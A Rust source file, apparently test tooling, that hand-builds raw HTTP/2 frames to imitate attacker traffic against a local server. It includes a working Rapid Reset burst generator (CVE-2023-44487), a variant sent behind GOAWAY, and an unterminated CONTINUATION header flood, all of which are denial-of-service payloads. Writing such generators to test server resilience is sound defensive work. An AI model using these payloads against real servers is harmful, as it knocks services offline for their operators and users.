//! What attackers send over HTTP/2: frames by hand (RFC 9113 §4.1), which no client would write.

/// Types and flags of frames (RFC 9113 §6).
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Frames in a burst.
const BURST: u32 = 100;

/// The first words of a client.
pub fn preface() -> Vec<u8> {
    [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(SETTINGS, 0, 0, &[])].concat()
}

/// The burst number `n` of requests, each of which is taken back at once (CVE-2023-44487).
pub fn reset(n: u32) -> Vec<u8> {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let path = b"/.well-known/jwks.json";
    // RFC 7541: GET, https, and literals that are not indexed for authority and path.
    let mut block = vec![0x82, 0x87, 0x01, 9];
    block.extend(b"localhost");
    block.extend([0x04, path.len() as u8]);
    block.extend(path);
    let request = |stream| {
        [frame(HEADERS, END_STREAM | END_HEADERS, stream, &block), frame(RST_STREAM, 0, stream, &CANCEL)]
            .concat()
    };
    (0..BURST).flat_map(|request_of| request((n * BURST + request_of) * 2 + 1)).collect()
}

/// The same, behind word that we give the connection up, for which the server could take its end.
pub fn reset_after_goaway(n: u32) -> Vec<u8> {
    // The last stream is 0, the error internal.
    let goaway = if n == 0 { frame(GOAWAY, 0, 0, &[0, 0, 0, 0, 0, 0, 0, 2]) } else { Vec::new() };
    [goaway, reset(n)].concat()
}

/// The burst number `n` of a header without an end.
pub fn endless(n: u32) -> Vec<u8> {
    // A literal that is not indexed, of a new name.
    let field = [&[0, 1, b'x', 100][..], &[b'y'; 100]].concat();
    let fields = field.repeat(10);
    let frames = (0..BURST).map(|of| match (n, of) {
        (0, 0) => frame(HEADERS, END_STREAM, 1, &[&[0x82, 0x87][..], &fields].concat()),
        _ => frame(CONTINUATION, 0, 1, &fields),
    });
    frames.flatten().collect()
}

/// RFC 9113 §4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
